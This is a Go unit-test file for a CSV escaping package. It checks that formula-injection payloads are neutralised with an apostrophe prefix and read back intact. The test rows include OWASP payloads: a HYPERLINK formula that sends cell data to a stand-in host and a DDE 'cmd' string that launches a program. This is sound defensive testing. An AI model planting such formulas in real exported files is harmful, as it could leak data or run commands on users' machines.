package csvsafe

import (
	"bytes"
	"encoding/csv"
	"testing"
)

// The OWASP payloads come out as text; plain numbers and ordinary text as they are.
func TestCell(t *testing.T) {
	rows := []struct{ in, want string }{
		{`=HYPERLINK("http://x.example/?"&A1,"点此")`, `'=HYPERLINK("http://x.example/?"&A1,"点此")`},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-A1-A2-A3-A4-A5-A6", "'-A1-A2-A3-A4-A5-A6"},
		{"@SUM(1)", "'@SUM(1)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"-2+3", "'-2+3"},
		{"-", "'-"},
		{"'=1+1", "''=1+1"},
		{"''@x", "'''@x"},
		{"'plain", "'plain"},
		{"-1", "-1"},
		{"+0.5", "+0.5"},
		{"-2.5e-3", "-2.5e-3"},
		{"3", "3"},
		{"城关第一小学", "城关第一小学"},
		{"", ""},
		{"a=b", "a=b"},
	}
	for _, r := range rows {
		if got := Cell(r.in); got != r.want {
			t.Errorf("Cell(%q) = %q, want %q", r.in, got, r.want)
		}
		if back := Unescape(Cell(r.in)); back != r.in {
			t.Errorf("Unescape(Cell(%q)) = %q", r.in, back)
		}
	}
}

// A file written by Writer holds no cell a spreadsheet would run, and reads back exactly.
func TestWriterRoundTrip(t *testing.T) {
	in := [][]string{{"code", "school"}, {"=1+1", "@A1"}, {"-1", "+cmd|x!A0"}, {"\tx", "ok"}}
	var buf bytes.Buffer
	if err := NewWriter(&buf).WriteAll(in); err != nil {
		t.Fatal(err)
	}
	out, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, rec := range out {
		for j, cell := range rec {
			if cell != "" && trigger(cell[0]) && !number(cell) {
				t.Errorf("row %d col %d: %q would run as a formula", i, j, cell)
			}
			if Unescape(cell) != in[i][j] {
				t.Errorf("row %d col %d: read back %q, wrote %q", i, j, Unescape(cell), in[i][j])
			}
		}
	}
}
